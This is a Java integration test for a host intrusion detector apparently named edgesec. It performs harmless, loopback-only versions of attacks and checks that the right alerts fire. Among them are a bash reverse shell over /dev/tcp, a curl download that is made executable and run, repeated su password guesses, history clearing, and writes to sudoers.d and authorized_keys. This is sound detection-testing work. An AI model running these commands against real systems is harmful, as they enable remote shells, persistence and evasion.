package io.edgesec.itest;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import io.edgesec.collector.audit.internal.testing.HostAudit;
import io.edgesec.support.json.JsonDocuments;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * The detector end to end, against the real kernel audit subsystem: the built edgesec.jar runs
 * with its audit collector on an auditd of this test (unless one runs), the test performs harmless
 * versions of attacks, and the agent's messages must hold exactly the expected alert IDs.
 *
 * <p>Scope: the test's processes get a login uid of their own (written to
 * {@code /proc/self/loginuid} by a wrapper before it execs the attack), and the syscall rules the
 * test adds are filtered on that auid and tagged with a key of the test, so the rest of the
 * machine is not audited. Afterwards it removes exactly those rules, the throw-away user and
 * group, the network namespace and its files, stops the auditd it started (by pid) and restores
 * the kernel's enabled flag. Hold {@code flock /tmp/edgesec-audit.lock} when running it.
 */
class DetectorAttackTest {
    private static final String JAVA = CommandLineTest.JAVA;
    private static final Set<String> EXPECTED = new TreeSet<>(List.of("IOTA-001", "IOTA-002", "IOTA-004", "IOTA-005",
            "IOTA-010", "IOTA-014", "IOTA-030", "IOTA-032", "IOTA-033", "IOTA-034", "IOTA-035", "IOTA-046"));

    private final long self = ProcessHandle.current().pid();
    private final String auid = Long.toString(40000 + self % 20000);
    private final String key = "edgesec-e2e-" + self;
    private final String user = "esat" + self % 100000;
    private final String group = "esag" + self % 100000;
    private final String netns = "esans" + self;
    private final List<Process> started = new ArrayList<>();
    private Path dir;
    private HostAudit audit;
    private Path log;

    @BeforeEach
    void audit() throws Exception {
        assertEquals("root", System.getProperty("user.name"), "the attack test needs root (CI runs as root)");
        assertTrue(Files.isRegularFile(CommandLineTest.JAR), "build the launcher first");
        // under /tmp on purpose: the downloaded payload and the miner-named file run from a temporary location
        dir = Files.createTempDirectory(Path.of("/tmp"), "edgesec-e2e-");
        audit = HostAudit.open(dir);
        log = audit.log();
        for (String s : List.of("execve", "connect", "bind", "accept", "accept4")) {
            rule("always,exit", "-F", "arch=b64", "-S", s, "-F", "auid=" + auid, "-k", key);
        }
        rule("always,exit", "-F", "arch=b64", "-S", "socket", "-F", "a0=2", "-F", "auid=" + auid, "-k", key);
    }

    @AfterEach
    void restore() throws Exception {
        List<String> problems = new ArrayList<>();
        for (Process p : started) {
            p.destroyForcibly();
        }
        quietly("userdel", user);
        quietly("groupdel", group);
        quietly("ip", "netns", "del", netns);
        if (audit != null) {
            try {
                audit.close();
            } catch (AssertionError e) {
                problems.add(e.getMessage());
            }
        }
        if (dir != null) {
            try (var s = Files.walk(dir)) {
                s.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
            }
        }
        assertTrue(!Files.exists(dir), "files left in " + dir);
        assertTrue(problems.isEmpty(), problems.toString());
    }

    @Test
    void harmlessAttacksRaiseExactlyTheirAlerts() throws Exception {
        Path out = dir.resolve("out.jsonl");
        Path agentErr = dir.resolve("agent.err");
        Process agent = startAgent(out, agentErr);

        // the collector is at the end of the log once a marker process run now shows up in what the agent sends
        awaitMarker(out, "ready", agent, agentErr);

        try (ServerSocket listener = new ServerSocket(0, 5, InetAddress.getLoopbackAddress());
             Downloads http = new Downloads()) {
            Thread peer = new Thread(() -> {
                try (Socket s = listener.accept()) {
                    s.getOutputStream().write("exit\n".getBytes(StandardCharsets.US_ASCII));
                    s.getOutputStream().flush();
                    s.getInputStream().transferTo(OutputStream.nullOutputStream());
                } catch (IOException e) {
                    // the shell closed the connection
                }
            });
            peer.start();
            // IOTA-001: an interactive shell whose stdio is a TCP connection to a listener
            asAuid("bash", "-c", "bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/" + listener.getLocalPort() + " 0>&1");
            peer.join(30_000);

            // IOTA-035, -032: a throw-away user and group
            asAuid("useradd", "-M", "-s", "/bin/sh", user);
            asAuid("groupadd", group);
            asAuid("usermod", "-aG", group, user);
            assertEquals(0, exec(List.of("chpasswd"), user + ":Edgesec-e2e-" + self + "\n"));
            // IOTA-002: su with a wrong password five times, then the right one
            for (int i = 0; i < 5; i++) {
                su("wrong-" + i);
            }
            su("Edgesec-e2e-" + self);
            // IOTA-033, -034
            asAuid("gpasswd", "-d", user, group);
            asAuid("userdel", user);
            asAuid("groupdel", group);

            // IOTA-004, -005: firewall changes inside a network namespace of the test
            asAuid("ip", "netns", "add", netns);
            asAuid("ip", "netns", "exec", netns, "iptables", "-A", "INPUT", "-p", "tcp", "--dport", "23", "-j", "DROP");
            asAuid("ip", "netns", "exec", netns, "iptables", "-F");
            asAuid("ip", "netns", "exec", netns, "iptables", "-t", "nat", "-A", "PREROUTING", "-p", "tcp", "--dport",
                    "8080", "-j", "REDIRECT", "--to-ports", "80");
            asAuid("ip", "netns", "del", netns);

            // IOTA-014 (and -046): a download from a local HTTP server made executable and run
            Path payload = dir.resolve("payload");
            asAuid("curl", "-s", "-o", payload.toString(), "http://127.0.0.1:" + http.port() + "/payload");
            asAuid("chmod", "+x", payload.toString());
            asAuid(payload.toString());
        }
        // IOTA-030: history cleared
        asAuid("bash", "-c", "history -c");
        // IOTA-010 (and -046): a program named like a miner
        Path miner = dir.resolve("xmrig");
        Files.copy(Path.of("/bin/true"), miner);
        asAuid(miner.toString(), "--version");

        awaitMarker(out, "done", agent, agentErr);
        long deadline = System.currentTimeMillis() + 120_000;
        while (!alertIds(out).containsAll(EXPECTED) && System.currentTimeMillis() < deadline) {
            assertTrue(agent.isAlive(), Files.readString(agentErr));
            Thread.sleep(200);
        }
        agent.destroy(); // SIGTERM: what is queued or folding is sent
        assertTrue(agent.waitFor(60, TimeUnit.SECONDS));
        assertEquals(EXPECTED, alertIds(out), "alerts: " + alerts(out) + "\nwhat the agent saw: " + seen(out));
        for (Map<String, Object> a : alerts(out)) {
            assertTrue(a.get("Entities") instanceof Map<?, ?> m && !m.isEmpty(), a.toString());
            assertTrue(a.get("EvidenceEventIds") instanceof List<?> l && !l.isEmpty(), a.toString());
        }
        Map<String, Object> shell = alerts(out).stream().filter(a -> "IOTA-001".equals(a.get("AlertId"))).findFirst().orElseThrow();
        assertEquals("127.0.0.1", ((Map<?, ?>) shell.get("Entities")).get("RemoteAddress"));
    }

    /**
     * False positives: a capture of ordinary administration (a package installed and removed,
     * services listed, the container engine asked, ssh out, code compiled and run in a home
     * directory, the usual look at the system) raises no alert at all.
     */
    @Test
    void ordinaryAdministrationRaisesNoAlert() throws Exception {
        Path out = dir.resolve("out.jsonl");
        Path agentErr = dir.resolve("agent.err");
        Path home = Path.of("/root", "edgesec-e2e-build-" + self);
        Files.createDirectories(home);
        try {
            Process agent = startAgent(out, agentErr);
            awaitMarker(out, "ready", agent, agentErr);
            // a package: built, installed (its maintainer script runs), listed, purged
            Path pkg = dir.resolve("pkg");
            Files.createDirectories(pkg.resolve("DEBIAN"));
            Files.createDirectories(pkg.resolve("usr/share/doc/edgesec-e2e-admin"));
            Files.writeString(pkg.resolve("DEBIAN/control"), "Package: edgesec-e2e-admin\nVersion: 1.0\nArchitecture: all\n"
                    + "Maintainer: edgesec <edgesec@example.org>\nDescription: edgesec test package\n");
            Files.writeString(pkg.resolve("DEBIAN/postinst"), "#!/bin/sh\nset -e\nmkdir -p /var/lib/edgesec-e2e-admin\n");
            Files.writeString(pkg.resolve("DEBIAN/postrm"), "#!/bin/sh\nset -e\nrm -rf /var/lib/edgesec-e2e-admin\n");
            Files.setPosixFilePermissions(pkg.resolve("DEBIAN/postinst"), PosixFilePermissions.fromString("rwxr-xr-x"));
            Files.setPosixFilePermissions(pkg.resolve("DEBIAN/postrm"), PosixFilePermissions.fromString("rwxr-xr-x"));
            Files.writeString(pkg.resolve("usr/share/doc/edgesec-e2e-admin/README"), "test\n");
            asAuid("dpkg-deb", "--build", pkg.toString(), dir.resolve("admin.deb").toString());
            asAuid("dpkg", "-i", dir.resolve("admin.deb").toString());
            asAuid("dpkg", "-l", "edgesec-e2e-admin");
            asAuid("dpkg", "--purge", "edgesec-e2e-admin");
            asAuid("apt-cache", "policy", "curl");
            // services and the container engine
            asAuid("service", "--status-all");
            asAuid("systemctl", "status", "cron");
            asAuid("docker", "ps", "-a");
            asAuid("docker", "inspect", "edgehub");
            // ssh out (nothing listens there: the attempt is what an administrator's day looks like)
            asAuid("ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=3", "-p", "1", "admin@127.0.0.1", "uptime");
            asAuid("ssh-keygen", "-t", "ed25519", "-N", "", "-q", "-f", dir.resolve("id_test").toString());
            // compiling and running in a home directory
            Files.writeString(home.resolve("hello.c"), "#include <stdio.h>\nint main(void) { puts(\"hello\"); return 0; }\n");
            Files.writeString(home.resolve("Makefile"), "hello: hello.c\n\tcc -O2 -o hello hello.c\n");
            asAuidIn(home, "make");
            asAuidIn(home, home.resolve("hello").toString());
            asAuidIn(home, "gcc", "-Wall", "-c", "hello.c", "-o", "hello.o");
            // the usual look at the system, each from its own shell
            for (String cmd : List.of("uptime", "df -h", "free -m", "ps aux", "ss -tlnp", "ip a", "journalctl -n 5 --no-pager",
                    "ls -la /var/log", "crontab -l", "tail -n 3 /var/log/dpkg.log", "cat /etc/os-release",
                    "tar czf " + dir.resolve("etc-backup.tgz") + " /etc/hostname /etc/hosts", "cp /etc/hosts " + dir.resolve("hosts.bak"),
                    "rm " + dir.resolve("hosts.bak"), "chmod 600 " + dir.resolve("etc-backup.tgz"), "find /etc -maxdepth 1 -name '*.conf'",
                    "grep -c root /etc/passwd", "env", "date")) {
                asAuid("bash", "-c", cmd);
            }
            awaitMarker(out, "done", agent, agentErr);
            agent.destroy();
            assertTrue(agent.waitFor(60, TimeUnit.SECONDS));
            assertEquals(List.of(), alerts(out), "ordinary administration raised alerts");
        } finally {
            quietly("dpkg", "--purge", "edgesec-e2e-admin");
            try (var s = Files.walk(home)) {
                s.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
            }
        }
    }

    /**
     * IOTA-003, -023, -043, -045 from the collector's own watch rules (the lines of
     * deploy/audit/edgesec.rules, each scoped to this test's login uid and key) and the kernel's
     * CONFIG_CHANGE records, with no command line that shows the intent: python3 writes the
     * files, auditctl removes a rule of the agent's key. A throw-away file in /etc/sudoers.d
     * (the directory made for the test when the host has none), an append to a throw-away
     * user's existing authorized_keys, a cron.d file made and removed, a log file under /var/log
     * truncated and another removed, a rule of the agent's key added and removed by someone else
     * (auditing stays on; a rule of another key added and removed is no alert). IOTA-040 (a
     * module loaded) is not done live: this kernel has no module support (finit_module is
     * ENOSYS); collector-audit's SystemChangeEventsTest and the detector's SystemChangeAlertsTest
     * cover it from records. Everything made is removed, the rules too.
     */
    @Test
    void watchedFilesModulesAndAuditConfigurationRaiseTheirAlerts() throws Exception {
        String tag = "edgesec-e2e-" + self;
        Path sudoersDir = Path.of("/etc/sudoers.d");
        boolean madeSudoersDir = !Files.isDirectory(sudoersDir);
        Path sudoers = sudoersDir.resolve(tag);
        Path cron = Path.of("/etc/cron.d", tag);
        Path truncated = Path.of("/var/log", tag + "-truncated.log");
        Path removed = Path.of("/var/log", tag + "-removed.log");
        Path home = dir.resolve("home-" + user);
        Path keys = home.resolve(".ssh/authorized_keys");
        Path probe = dir.resolve("rule-probe");
        try {
            if (madeSudoersDir) {
                Files.createDirectories(sudoersDir);
            }
            Files.writeString(truncated, "a log line\n");
            Files.writeString(removed, "a log line\n");
            assertEquals(0, exec(List.of("useradd", "-M", "-d", home.toString(), "-s", "/bin/sh", user), null));
            Files.createDirectories(keys.getParent());
            Files.writeString(keys, "# keys\n");
            // the collector's file and module rules as the host rules file lists them, scoped to this test
            int added = 0;
            for (String line : Files.readAllLines(CommandLineTest.ROOT.resolve("deploy/audit/edgesec.rules"))) {
                if (line.startsWith("-a ") && (line.contains(" -F path=") || line.contains(" -F dir=/var/log")
                        || line.contains("_module")) && !line.contains("arch=b32")) {
                    scopedRule(line);
                    added++;
                }
            }
            assertTrue(added >= 20, "file and module rules in deploy/audit/edgesec.rules: " + added);
            // what the collector adds on a host where they exist: cron.d recursively, a user's authorized_keys
            scopedRule("-a always,exit -F dir=/etc/cron.d -F perm=wa -F success=1 -k edgesec");
            scopedRule("-a always,exit -F path=" + keys + " -F perm=wa -F success=1 -k edgesec");
            audit.deleteOnClose(key + "-other"); // not this key: HostAudit removes its own rules one by one

            Path out = dir.resolve("out.jsonl");
            Path agentErr = dir.resolve("agent.err");
            Process agent = startAgent(out, agentErr);
            awaitMarker(out, "ready", agent, agentErr);

            String py = "/usr/bin/python3";
            // IOTA-045: a sudoers.d file written, then removed; a key appended to an existing authorized_keys
            asAuid(py, "-c", "import sys; open(sys.argv[1], 'w').write('# edgesec e2e\\n')", sudoers.toString());
            asAuid(py, "-c", "import os, sys; os.unlink(sys.argv[1])", sudoers.toString());
            asAuid(py, "-c", "import sys; open(sys.argv[1], 'a').write('ssh-ed25519 AAAAC3Nz e2e\\n')", keys.toString());
            // IOTA-043: a cron file made and removed
            asAuid(py, "-c", "import sys; open(sys.argv[1], 'w').write('# edgesec e2e\\n')", cron.toString());
            asAuid(py, "-c", "import os, sys; os.unlink(sys.argv[1])", cron.toString());
            // IOTA-023: a log truncated (truncate(2)), another removed
            asAuid(py, "-c", "import os, sys; os.truncate(sys.argv[1], 0)", truncated.toString());
            asAuid(py, "-c", "import os, sys; os.unlink(sys.argv[1])", removed.toString());
            // IOTA-003: a rule of the agent's key removed by someone else (auditing stays on) ...
            asAuid("auditctl", "-a", "always,exit", "-F", "path=" + probe, "-F", "perm=wa", "-k", key);
            asAuid("auditctl", "-d", "always,exit", "-F", "path=" + probe, "-F", "perm=wa", "-k", key);
            // ... and a rule of another key added and removed: configuration changes, no alert
            asAuid("auditctl", "-a", "always,exit", "-F", "path=" + probe, "-F", "perm=wa", "-k", key + "-other");
            asAuid("auditctl", "-d", "always,exit", "-F", "path=" + probe, "-F", "perm=wa", "-k", key + "-other");

            Set<String> expected = new TreeSet<>(List.of("IOTA-003", "IOTA-023", "IOTA-043", "IOTA-045"));
            awaitMarker(out, "done", agent, agentErr);
            long deadline = System.currentTimeMillis() + 120_000;
            while (!alertIds(out).containsAll(expected) && System.currentTimeMillis() < deadline) {
                assertTrue(agent.isAlive(), Files.readString(agentErr));
                Thread.sleep(200);
            }
            agent.destroy();
            assertTrue(agent.waitFor(60, TimeUnit.SECONDS));
            assertEquals(expected, alertIds(out), "alerts: " + alerts(out) + "\nwhat the agent saw: " + seen(out));
            Set<String> files = new TreeSet<>();
            for (Map<String, Object> a : alerts(out)) {
                Map<?, ?> ents = (Map<?, ?>) a.get("Entities");
                if (ents.get("File") != null) {
                    files.add(a.get("AlertId") + " " + ents.get("File"));
                }
            }
            assertEquals(new TreeSet<>(List.of("IOTA-023 " + removed, "IOTA-023 " + truncated, "IOTA-043 " + cron,
                    "IOTA-045 " + keys, "IOTA-045 " + sudoers)), files, "each alert from its file's own event");
            Map<String, Object> rules = alerts(out).stream().filter(a -> "IOTA-003".equals(a.get("AlertId"))).findFirst().orElseThrow();
            assertEquals(key, ((Map<?, ?>) rules.get("Entities")).get("AuditRuleKey"));
            assertEquals(auid, ((Map<?, ?>) rules.get("Entities")).get("LoginSession"));
        } finally {
            quietly("auditctl", "-d", "always,exit", "-F", "path=" + probe, "-F", "perm=wa", "-k", key); // if the test stopped between
            Files.deleteIfExists(sudoers);
            if (madeSudoersDir) {
                Files.deleteIfExists(sudoersDir);
            }
            Files.deleteIfExists(cron);
            Files.deleteIfExists(truncated);
            Files.deleteIfExists(removed);
            quietly("userdel", user);
        }
    }

    /** Adds a line of the host rules file ({@code -a always,exit ... -k edgesec}) scoped to this test's auid and key. */
    private void scopedRule(String line) throws Exception {
        List<String> f = new ArrayList<>(List.of(line.substring(3).trim().split("\\s+")));
        int k = f.indexOf("-k");
        assertTrue(k > 0 && k == f.size() - 2, line);
        f.set(k + 1, key);
        f.addAll(k, List.of("-F", "auid=" + auid));
        rule(f.toArray(new String[0]));
    }

    private Process startAgent(Path out, Path agentErr) throws Exception {
        Path config = dir.resolve("config.json");
        Files.writeString(config, """
                {"ms_iotn:urn_azureiot_Security_SecurityAgentConfiguration": {
                   "highPriorityMessageFrequency": {"value": "PT1S"},
                   "lowPriorityMessageFrequency": {"value": "PT1S"},
                   "aggregationEnabledProcessCreate": {"value": false},
                   "aggregationEnabledConnectionCreate": {"value": false}},
                 "edgesec": {
                   "io.edgesec.collector.process": {"reportCreate": false},
                   "io.edgesec.collector.audit": {"logPath": "%s", "stateDirectory": "%s", "installRules": false,
                       "startAtEnd": true, "ruleKey": "%s"}}}
                """.formatted(log, dir.resolve("audit-state"), key));
        Process agent = new ProcessBuilder(JAVA, "-Xmx128m", "-jar", CommandLineTest.JAR.toString(), "run", "--duration", "600",
                "--config", config.toString(), "--output", out.toString(), "--data-dir", dir.resolve("data").toString())
                .redirectError(agentErr.toFile()).redirectOutput(dir.resolve("agent.out").toFile()).start();
        started.add(agent);
        return agent;
    }

    private void asAuid(String... command) throws Exception {
        asAuidIn(dir, command);
    }

    /** Runs a command with this test's login uid, so the test's audit rules see it and nothing else. */
    private void asAuidIn(Path cwd, String... command) throws Exception {
        List<String> c = new ArrayList<>(List.of("bash", "-c", "echo " + auid + " > /proc/self/loginuid && exec \"$@\"", "as-auid"));
        c.addAll(List.of(command));
        ProcessBuilder pb = new ProcessBuilder(c).redirectErrorStream(true).redirectOutput(dir.resolve("cmd.out").toFile());
        pb.environment().put("HISTFILE", dir.resolve("history").toString());
        pb.directory(cwd.toFile());
        Process p = pb.start();
        started.add(p);
        assertTrue(p.waitFor(60, TimeUnit.SECONDS), String.join(" ", command) + " did not finish");
        // the commands may fail on purpose (a shell told to exit); their execve is what counts
    }

    /** One su attempt as nobody through a pseudo-terminal, typing the password once it is asked for. */
    private void su(String password) throws Exception {
        List<String> c = List.of("bash", "-c", "echo " + auid + " > /proc/self/loginuid && exec \"$@\"", "as-auid",
                "runuser", "-u", "nobody", "--", "script", "-qec", "su -c true " + user, "/dev/null");
        ProcessBuilder pb = new ProcessBuilder(c).redirectErrorStream(true);
        pb.environment().put("SHELL", "/bin/sh");
        pb.directory(Path.of("/").toFile());
        Process p = pb.start();
        started.add(p);
        InputStream in = p.getInputStream();
        StringBuilder seen = new StringBuilder();
        long deadline = System.currentTimeMillis() + 30_000;
        while (!seen.toString().contains("assword") && System.currentTimeMillis() < deadline && p.isAlive()) {
            if (in.available() > 0) {
                seen.append((char) in.read());
            } else {
                Thread.sleep(20);
            }
        }
        assertTrue(seen.toString().contains("assword"), "su did not ask for a password: " + seen);
        try (OutputStream o = p.getOutputStream()) {
            o.write((password + "\n").getBytes(StandardCharsets.US_ASCII));
        }
        in.transferTo(OutputStream.nullOutputStream());
        assertTrue(p.waitFor(60, TimeUnit.SECONDS), "su did not finish");
    }

    private void awaitMarker(Path out, String name, Process agent, Path agentErr) throws Exception {
        String marker = "edgesec-e2e-" + name + "-" + self;
        long deadline = System.currentTimeMillis() + 180_000;
        int n = 0;
        while (System.currentTimeMillis() < deadline) {
            assertTrue(agent.isAlive(), "agent exited: " + Files.readString(agentErr));
            asAuid("/bin/true", marker + "-" + n++);
            long until = System.currentTimeMillis() + 3000;
            while (System.currentTimeMillis() < until) {
                if (Files.exists(out) && Files.readString(out).contains(marker)) {
                    return;
                }
                Thread.sleep(100);
            }
        }
        throw new AssertionError("marker " + marker + " never reached the output: " + Files.readString(agentErr));
    }

    /**
     * For a failure's message: each event the agent sent other than alerts, by name, with the
     * command line of process events and the payload of its own reports (drops, collector
     * status), so that a missing alert shows whether its evidence was missing or misjudged.
     */
    @SuppressWarnings("unchecked")
    private static List<String> seen(Path out) throws Exception {
        List<String> seen = new ArrayList<>();
        for (Map<String, Object> ev : events(out)) {
            String name = String.valueOf(ev.get("Name"));
            if ("Alert".equals(name) || "ListeningPorts".equals(name) || "SystemInformation".equals(name)) {
                continue;
            }
            for (Object o : (List<Object>) ev.get("Payload")) {
                Map<String, Object> p = (Map<String, Object>) o;
                Object cmd = p.get("CommandLine");
                seen.add(ev.get("TimestampUTC") + " " + name + " " + (cmd != null ? cmd : p));
            }
        }
        return seen;
    }

    private static Set<String> alertIds(Path out) throws Exception {
        Set<String> ids = new TreeSet<>();
        for (Map<String, Object> a : alerts(out)) {
            ids.add((String) a.get("AlertId"));
        }
        return ids;
    }

    @SuppressWarnings("unchecked")
    private static List<Map<String, Object>> alerts(Path out) throws Exception {
        List<Map<String, Object>> list = new ArrayList<>();
        for (Map<String, Object> ev : events(out)) {
            if ("Alert".equals(ev.get("Name"))) {
                for (Object p : (List<Object>) ev.get("Payload")) {
                    list.add((Map<String, Object>) p);
                }
            }
        }
        return list;
    }

    /** Every event of every message the agent wrote so far, in order. */
    @SuppressWarnings("unchecked")
    private static List<Map<String, Object>> events(Path out) throws Exception {
        List<Map<String, Object>> list = new ArrayList<>();
        if (!Files.exists(out)) {
            return list;
        }
        for (String line : Files.readAllLines(out, StandardCharsets.UTF_8)) {
            if (!line.isBlank()) {
                for (Object e : (List<Object>) JsonDocuments.object(line).get("Events")) {
                    list.add((Map<String, Object>) e);
                }
            }
        }
        return list;
    }

    private void rule(String... r) throws Exception {
        audit.rule(r);
    }

    private static int exec(List<String> command, String stdin) throws Exception {
        Process p = new ProcessBuilder(command).redirectErrorStream(true).redirectOutput(ProcessBuilder.Redirect.DISCARD).start();
        try (OutputStream o = p.getOutputStream()) {
            if (stdin != null) {
                o.write(stdin.getBytes(StandardCharsets.UTF_8));
            }
        }
        assertTrue(p.waitFor(60, TimeUnit.SECONDS), String.join(" ", command));
        return p.exitValue();
    }

    private static void quietly(String... command) throws Exception {
        exec(List.of(command), null);
    }

    /** A local HTTP server with one file, the "payload": a harmless shell script. */
    private static final class Downloads implements AutoCloseable {
        private final HttpServer server;

        Downloads() throws IOException {
            server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 5);
            server.createContext("/payload", x -> {
                byte[] body = "#!/bin/sh\necho edgesec-e2e-payload-ran\n".getBytes(StandardCharsets.US_ASCII);
                x.sendResponseHeaders(200, body.length);
                try (OutputStream o = x.getResponseBody()) {
                    o.write(body);
                }
            });
            server.start();
        }

        int port() {
            return server.getAddress().getPort();
        }

        @Override
        public void close() {
            server.stop(0);
        }
    }
}
